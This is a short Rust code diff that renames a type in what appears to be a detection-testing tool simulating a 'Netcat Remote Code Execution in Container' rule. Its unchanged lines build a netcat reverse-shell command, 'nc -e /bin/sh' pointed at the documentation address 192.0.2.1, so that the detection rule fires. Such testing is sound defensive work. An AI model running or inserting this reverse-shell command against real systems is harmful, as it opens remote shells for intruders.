@@ -1,6 +1,6 @@
 //! A shell for who is at the other end. Nothing is contacted.
 
-use super::super::{Action, Scene, Stop};
+use super::super::{Action, ActionEnvironment, Stop};
 
 pub(super) const ACTION: Action = Action::new(
     "syscall.NetcatRemoteCodeExecutionInContainer",
@@ -10,7 +10,7 @@ pub(super) const ACTION: Action = Action::new(
 .rule("Netcat Remote Code Execution in Container")
 .inside();
 
-fn play(scene: &Scene) -> Result<(), Stop> {
+fn play(scene: &ActionEnvironment) -> Result<(), Stop> {
     let mut nc = scene.pose("nc")?;
     nc.args(["-e", "/bin/sh", "192.0.2.1", "22"]);
     scene.run(nc)
